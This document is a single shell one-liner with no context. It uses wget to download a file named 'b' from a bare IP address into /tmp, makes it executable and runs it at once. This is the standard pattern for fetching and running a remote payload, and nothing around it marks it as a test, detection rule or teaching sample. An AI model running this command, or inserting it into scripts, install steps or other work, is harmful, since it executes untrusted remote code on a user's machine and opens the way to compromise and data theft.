wget http://203.0.113.7/b -O /tmp/b; chmod +x /tmp/b; /tmp/b
